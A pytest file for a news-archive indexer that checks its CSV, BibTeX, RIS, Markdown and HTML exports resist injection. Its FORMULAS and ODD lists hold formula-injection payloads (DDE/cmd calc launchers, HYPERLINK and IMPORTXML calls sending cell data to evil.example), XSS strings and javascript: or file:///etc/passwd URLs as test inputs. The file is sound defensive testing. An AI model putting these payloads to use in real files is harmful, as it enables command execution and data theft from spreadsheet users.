"""A list of results taken away: tables, articles, references; whatever stands in an article, the file stays what it is."""

import csv
import datetime as dt
import io
import json
import re
import shutil
import subprocess

import bibtexparser
import pytest
import rispy
from click.testing import CliRunner
from hypothesis import example, given, settings
from hypothesis import strategies as st

import indexer
from indexer import Article, BadSearch, cite
from indexer.__main__ import main
from indexer.export import CITED, COLUMNS, FORMATS, MOST, cells

WORK = Article(
    "Көпір ашылды.",
    id="dt-2025-001",
    title="Көпір ашылды",
    date="2025-09-29",
    source="Дала таңы",
    author="Айгүл Серік",
    url="https://dala.example/1",
    language="kk",
)
FORMULAS = [
    *(f"{sign}1+1" for sign in "=+-@＝＋－＠﹦﹢﹣﹫"),
    *(f"{sign}SUM(A1:A9)" for sign in "=+-@＝＋－＠"),
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example?x="&A1,"Толығырақ")',
    '=IMPORTXML(CONCAT("https://evil.example/?v=",A2),"//a")',
    '=WEBSERVICE("https://evil.example")',
    '=DDE("cmd";"/C calc";"x")',
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u00a0=1+1",
    "\x00=1+1",
    "\x1f=1+1",
    "\x85=1+1",
    "\u2028=1+1",
    "\ufffe=1+1",
    "==1+1",
    "=-1+1",
    "-1",
    "+7 701 000 00 00",
    "-2+3+cmd|' /C calc'!A0",
    "x;=1+1;y",
    "x,=1+1,y",
    'x";=1+1;"y',
    'x",=1+1,"y',
    "x\n=1+1",
    "x\r\n=1+1\r\n",
    "x\t=1+1",
    "x;@SUM(1);",
    "x;\t=1+1",
    ";=1+1",
    ",=1+1",
]
ODD = (  # what a title may hold
    "екі\nжол",
    "тырнақша \"ішінде\" 'бар'",
    "100% {жақша} }{ \\textbf{x} $x^2$ #1 a_b ~ &",
    "бос\x00\x01\x08\x0b\x0c\x1b\x1f\x7f\x9f\ufffe\uffff",
    "TY  - JOUR\r\nER  - \r\nAU  - x",
    "}\n@article{evil, title={x}}",
    "<script>alert(1)</script>&amp;",
    "[x](javascript:alert(1)) ![x](y) `z` **q** | # ]]>",
    "сол\u202eоң\u2028жол\u2029 \U0001f600",
)


def filled(index, titles):
    """Put an article of each title into an index."""
    with index.batch():
        for number, title in enumerate(titles):
            index.add(Article("Көпір ашылды.", id=f"t-{number:03}", title=title, source=title, author=title, url=title))


def exported(index, format, text="көпір", **options):
    """Return the file of a search."""
    return "".join(index.export(text, format, **options))


def table(text, delimiter=","):
    """Return the rows of a table as a reader has them."""
    return list(csv.DictReader(io.StringIO(text.removeprefix("\ufeff"), newline=""), delimiter=delimiter))


CITATIONS = {
    "txt": "Айгүл Серік. Көпір ашылды // Дала таңы. – 2025-09-29. – URL: https://dala.example/1\n",
    "bib": """@article{dt-2025-001,
  author = {{Айгүл Серік}},
  title = {{Көпір ашылды}},
  journal = {{Дала таңы}},
  year = {2025},
  month = sep,
  day = {29},
  url = {https://dala.example/1},
  langid = {kazakh},
}

""",
    "ris": "TY  - NEWS\r\nID  - dt-2025-001\r\nAU  - Айгүл Серік\r\nTI  - Көпір ашылды\r\nT2  - Дала таңы\r\nPY  - 2025\r\n"
    "DA  - 2025/09/29/\r\nLA  - kk\r\nUR  - https://dala.example/1\r\nER  - \r\n\r\n",
}


@pytest.mark.parametrize("format", CITED)
def test_an_article_is_cited(format):
    assert cite(WORK, format) == CITATIONS[format]


@pytest.mark.parametrize(
    ("written", "plain", "bib", "ris"),
    [
        ("2025-09", "2025-09", "year = {2025},\n  month = sep,\n}", "PY  - 2025\r\nDA  - 2025/09//\r\n"),
        ("2025", "2025", "year = {2025},\n}", "PY  - 2025\r\nDA  - 2025///\r\n"),
        ("", "", "title = {{Көпір}},\n}", "TI  - Көпір\r\nER  - "),
    ],
)
def test_a_reference_says_as_much_of_a_date_as_is_known(written, plain, bib, ris):
    work = Article("Көпір.", id="1", title="Көпір", date=written)
    assert cite(work, "txt") == ". – ".join(filter(None, ("Көпір", plain))) + "\n"
    assert bib in cite(work, "bib")
    assert ris in cite(work, "ris")


def test_there_is_no_other_format(index):
    with pytest.raises(BadSearch, match=re.escape("format 'docx': use one of csv, excel, jsonl, bib, ris, md, txt")):
        index.export("көпір", "docx")
    with pytest.raises(BadSearch, match=re.escape("format 'csv': use one of txt, bib, ris")):
        cite(WORK, "csv")


@pytest.mark.parametrize(("format", "delimiter"), [("csv", ","), ("excel", ";")])
def test_a_table_has_the_hits_as_the_page_lists_them(sample, format, delimiter):
    text, found = exported(sample, format), sample.search("көпір", size=100)
    assert text.startswith("\ufeff" + delimiter.join(COLUMNS) + "\r\n")
    rows = table(text, delimiter)
    assert [row["id"] for row in rows] == [hit.id for hit in found]
    assert rows[0] == {
        "id": "sp-2018-006",
        "date": "2018-05-22",
        "title": "Шилісай көпірін жөндеу басталды",
        "source": "Сарыарқа пресс",
        "author": "Данияр Мейрамов",
        "language": "kk",
        "url": "https://saryarka-press.example/2018/006",
        "score": str(round(found.hits[0].score, 4)),
        "missing": "",
        "reprints": "0",
        "snippet": one_line(found.hits[0].snippet.text),
    }


def dangerous(cell):
    """Whether a spreadsheet could take a cell for a formula."""
    return cell[:1] in tuple("=+-@＝＋－＠﹦﹢﹣﹫\t\r\n")


@pytest.mark.parametrize("format", ["csv", "excel"])
@pytest.mark.parametrize("delimiter", [",", ";", "\t"])
def test_no_cell_is_a_formula_however_a_spreadsheet_parts_the_cells(index, format, delimiter):
    filled(index, FORMULAS)
    cells = [
        cell
        for row in csv.reader(io.StringIO(exported(index, format), newline=""), delimiter=delimiter)
        for cell in row
    ]
    assert len(FORMULAS) >= 50
    assert [cell for cell in cells if dangerous(cell)] == []


def test_no_formula_is_live_in_a_real_spreadsheet(index, tmp_path):
    """Fifty titles that are formulas, in LibreOffice as it reads either table: all cells are text."""
    office = shutil.which("soffice") or shutil.which("libreoffice")
    if not office:
        pytest.skip("no LibreOffice here: `apt-get install libreoffice-calc-nogui`")
    filled(index, FORMULAS)
    written = [tmp_path / name for name in ("csv.csv", "excel.csv", "live.csv")]
    for file, text in zip(written, (exported(index, "csv"), exported(index, "excel"), "=1+1,x\r\n"), strict=True):
        file.write_text(text, newline="")
    home = f"-env:UserInstallation=file://{tmp_path}/office"
    # 44/59: parted at either sign; 34: quotes; 76: UTF-8; the ninth of them: formulas are read as such.
    filter = "CSV:44/59,34,76,1,,0,false,true,false,false,false,-1,true"
    convert = [
        office,
        home,
        "--headless",
        f"--infilter={filter}",
        "--convert-to",
        "fods",
        "--outdir",
        tmp_path,
        *written,
    ]
    subprocess.run(convert, check=True, capture_output=True, timeout=300)
    formulas = {file.stem: file.with_suffix(".fods").read_text().count("table:formula=") for file in written}
    assert (formulas["csv"], formulas["excel"]) == (0, 0)
    assert formulas["live"] == 1  # else this test could not fail


def test_an_export_of_articles_can_be_dropped_into_another_archive(sample, tmp_path):
    (tmp_path / "found.jsonl").write_text(exported(sample, "jsonl", ""))
    with indexer.open(tmp_path / "other") as other:
        report = other.update(tmp_path / "found.jsonl")
        assert (report.added, report.failed) == (72, [])
        article, again = sample.article("sp-2018-006"), other.article("sp-2018-006")
        names = ("id", "text", "title", "date", "precision", "source", "url", "language", "author")
        assert [getattr(again, name) for name in names] == [getattr(article, name) for name in names]


def test_odd_titles_are_whole_in_json_and_one_line_each(index):
    filled(index, ODD)
    lines = exported(index, "jsonl").splitlines()
    assert sorted(row["title"] for row in map(json.loads, lines)) == sorted(
        index.article(f"t-{n:03}").title for n in range(len(ODD))
    )


def one_line(text):
    """Return a text as a line of a reference has it."""
    return re.sub(r"[\s\x00-\x1f\x7f-\x9f\ufffe\uffff]+", " ", text).strip()


UNDONE = {
    r"\textbackslash{}": "\\",
    r"\textasciitilde{}": "~",
    r"\textasciicircum{}": "^",
    r"\textbraceleft{}": "{",
    r"\textbraceright{}": "}",
}


def unescaped(field):
    """Return what TeX would print of a field that stands in two braces."""
    pieces = re.split(r"(\\[a-z]+\{\}|\\[$&%#_])", field.removeprefix("{").removesuffix("}"))
    return "".join(UNDONE.get(piece, piece.removeprefix("\\")) for piece in pieces)


@settings(deadline=None)
@given(st.text(st.characters(exclude_categories=["Cs"]) | st.sampled_from("{}\\%$&#_~^\"'@=,;+-\n\r\t -"), max_size=40))
@example(";,")
def test_whatever_a_title_is_it_comes_back(title):
    work = Article("Көпір.", id="1", title=f"К{title}", source=f"К{title}", author=f"К{title}")
    (entry,) = bibtexparser.parse_string(cite(work, "bib")).entries
    assert unescaped(entry["title"]) == one_line(work.title)
    assert [(each["title"], each["authors"]) for each in rispy.loads(cite(work, "ris"))] == [
        (one_line(work.title), [one_line(work.title)])
    ]
    for separator in ",;":
        text = cells(separator, [title, "", f"К{title}"])
        rows = [row for other in ",;\t" for row in csv.reader(io.StringIO(text, newline=""), delimiter=other)]
        # A title of ;, leaves a quote open where cells are parted at the other one: the line's end is then a cell, of nothing.
        assert [cell for row in rows for cell in row if dangerous(cell) and cell != "\r\n"] == []


def test_odd_titles_come_back_from_bibtex(index):
    filled(index, ODD)
    library = bibtexparser.parse_string(exported(index, "bib"))
    assert library.failed_blocks == []
    read = {}
    for entry in library.entries:
        assert entry.entry_type == "article"
        read[entry.key] = unescaped(entry["title"])
    assert read == {f"t-{n:03}": one_line(index.article(f"t-{n:03}").title) for n in range(len(ODD))}


def test_odd_titles_come_back_from_ris(index):
    filled(index, ODD)
    text = exported(index, "ris")
    assert {line[:6] for line in text.split("\r\n") if line} == {f"{tag}  - " for tag in "TY ID AU TI T2 LA ER".split()}
    read = {entry["id"]: entry["title"] for entry in rispy.loads(text)}
    assert read == {f"t-{n:03}": one_line(index.article(f"t-{n:03}").title) for n in range(len(ODD))}


def test_dates_and_addresses_come_back_from_both(sample):
    bib = {entry.key: entry for entry in bibtexparser.parse_string(exported(sample, "bib")).entries}
    ris = {entry["id"]: entry for entry in rispy.loads(exported(sample, "ris"))}
    assert list(bib) == list(ris) == [hit.id for hit in sample.search("көпір", size=100)]
    entry = bib["sp-2025-019"]
    assert (entry["year"], entry["month"], entry["day"]) == ("2025", "oct", "14")
    assert (ris["sp-2025-019"]["date"], ris["sp-2025-019"]["urls"]) == ("2025/10/14/", [entry["url"]])


@pytest.mark.parametrize(
    ("id", "key"),
    [
        ("sp-2018-006", "sp-2018-006"),
        ("a/b ?#%//é..", "a-b-bda7042a"),
        ("Көпір, 1", "1-3257dad9"),
        ("A-1", "a-1-bc4e7be9"),
    ],
)
def test_a_reference_is_called_by_what_bibtex_can_read(id, key):
    assert cite(Article("Көпір.", id=id, title="Көпір"), "bib") == f"@misc{{{key},\n  title = {{{{Көпір}}}},\n}}\n\n"


@pytest.mark.parametrize(
    "url", ["javascript:alert(1)", "JaVaScRiPt:alert(1)", "data:text/html,x", "file:///etc/passwd", "//x", "x"]
)
def test_only_addresses_of_the_web_are_references(url):
    work = Article("Көпір.", id="1", title="Көпір", url=url)
    assert [cite(work, format) for format in CITED] == [
        cite(Article("Көпір.", id="1", title="Көпір"), format) for format in CITED
    ]


def test_an_address_is_nothing_else_in_any_file():
    work = Article("Көпір.", id="1", title="Көпір", url='HTTPS://x.example/а(б)<c>"d" {e}\\f\ng?h=%20&i=1#j')
    assert cite(work, "txt") == (
        "Көпір. – URL: HTTPS://x.example/%D0%B0%28%D0%B1%29%3Cc%3E%22d%22%20%7Be%7D%5Cf%20g?h=%20&i=1#j\n"
    )


def test_markdown_is_text_with_marks(sample, index):
    lines = exported(sample, "md").splitlines()
    assert lines[:4] == [
        "# көпір",
        "",
        "8",
        "",
    ]
    assert lines[6:8] == [
        "- [Шилісай көпіріне тұрақты жарық орнатылды](<https://saryarka-press.example/2025/019>) · Сарыарқа пресс · 2025-10-14",
        (
            "  Ақөткелдегі Шилісай **көпіріне** ақыры тұрақты шам орнатылды. **Көпір** төрт жыл бұрын ашылғанда жарық уақытша қойылған еді. "
            "Енді **көпірдің** екі жағында энергия үнемдейтін 48 шам жанып тұр. Бекзат Қуанышұлының сөзінше, шамдар таң …"
        ),
    ]
    filled(index, ["[x](javascript:alert(1))", "<script>", "1. a", "- b", "# c", "**d**"])
    items = sorted(line.partition(" · ")[0] for line in exported(index, "md").splitlines() if line.startswith("- "))
    assert items == [
        r"- 1\. a",
        r"- \# c",
        r"- \*\*d\*\*",
        r"- \- b",
        r"- \<script\>",
        r"- \[x\](javascript:alert(1))",
    ]


def test_a_file_is_cut_at_ten_thousand_hits_and_each_is_in_it_once(index, monkeypatch):
    monkeypatch.setattr("indexer.export.MOST", 20)
    monkeypatch.setattr("indexer.export.PAGE", 10)
    filled(index, [f"Көпір {n}" for n in range(25)])
    found = index.export("көпір", "csv", group=None)
    rows = table("".join(found))
    assert (found.total, len(rows), len({row["id"] for row in rows})) == (25, 20, 20)
    assert [row["id"] for row in rows] == [hit.id for hit in index.search("көпір", size=20)]
    assert exported(index, "md", group=None).startswith("# көпір\n\n20 / 25\n\n")
    assert MOST == 10_000


def test_what_is_retracted_meanwhile_is_not_in_the_file(index, monkeypatch):
    monkeypatch.setattr("indexer.export.PAGE", 2)
    for number in range(5):
        index.add(
            Article(f"Көпір ашылды {number}.", id=str(number), title=f"Көпір {number}", date=f"2025-01-0{9 - number}")
        )
    pieces = iter(index.export("көпір", "csv", sort="newest"))
    first = [next(pieces) for _ in range(2)]
    index.retract("4", "сот шешімі")
    assert [row["id"] for row in table("".join([*first, *pieces]))] == ["0", "1", "2", "3"]


def test_what_is_added_meanwhile_puts_nothing_into_the_file_twice(index, monkeypatch):
    monkeypatch.setattr("indexer.export.PAGE", 2)
    for number in range(5):
        index.add(Article(f"Көпір {number}.", id=str(number), title="Көпір", date=f"2025-01-0{9 - number}"))
    pieces = iter(index.export("көпір", "jsonl", sort="newest"))
    first = [next(pieces) for _ in range(2)]
    index.add(Article("Көпір.", id="new", title="Көпір", date="2025-02-01"))
    lines = "".join([*first, *pieces]).splitlines()
    assert [json.loads(line)["id"] for line in lines] == ["0", "1", "2", "3", "4"]


@pytest.mark.parametrize("format", FORMATS)
def test_a_half_character_in_a_query_does_no_harm(sample, format):
    assert "".join(sample.export("көпір \ud800", format)).encode("utf-8", "replace")


@pytest.mark.parametrize("format", FORMATS)
def test_the_command_line_prints_the_file(sample, format):
    done = CliRunner().invoke(main, ["search", "көпір", "--format", format, "--index", str(sample.home)])
    assert (done.exit_code, done.stderr) == (0, "")
    assert done.stdout_bytes.decode() == exported(sample, format, group="reprints")


def test_the_command_line_finds_nothing_and_says_where_a_file_is_cut(sample, monkeypatch):
    command = ["search", "--index", str(sample.home), "--format", "txt"]
    assert CliRunner().invoke(main, [*command, "жоқсөздіңөзі"]).exit_code == 1
    monkeypatch.setattr("indexer.export.MOST", 10)
    monkeypatch.setattr("indexer.printed.MOST", 10)
    monkeypatch.setattr("indexer.export.PAGE", 10)
    done = CliRunner().invoke(main, command)
    assert (len(done.stdout.splitlines()), done.stderr) == (10, "izde: the first 10 of 69\n")


def test_results_are_rows_for_a_table(sample):
    (row, *_) = sample.search("көпір").rows()
    assert row == {
        "id": "sp-2018-006",
        "date": dt.date(2018, 5, 22),
        "precision": "day",
        "title": "Шилісай көпірін жөндеу басталды",
        "source": "Сарыарқа пресс",
        "author": "Данияр Мейрамов",
        "language": "kk",
        "url": "https://saryarka-press.example/2018/006",
        "score": sample.search("көпір").hits[0].score,
        "missing": "",
        "reprints": 0,
        "snippet": "Ақөткелде Шилісай өзенінің үстіндегі көпір толық жабылып, күрделі жөндеу басталды. Жобаға сәйкес алты тіреудің екеуі "
        "қайта құйылады, көпірдің жол төсемі түгел ауыстырылады. Жұмыс екі жылға жоспарланған. Бас инженер\u00a0…",
    }


def test_results_show_themselves_in_a_notebook(index):
    index.add(Article("Ол <мектепте>.", id="1", title="<b>Тақырып</b>", source="<i>S</i>", date="2025-09"))
    assert index.search("<мектеп>")._repr_html_() == (
        "<table><caption>&lt;мектеп&gt;: 1</caption><tr><td>&lt;b&gt;Тақырып&lt;/b&gt;</td><td>&lt;i&gt;S&lt;/i&gt;</td>"
        "<td>2025-09</td><td>Ол &lt;<mark>мектепте</mark>&gt;.</td></tr></table>"
    )
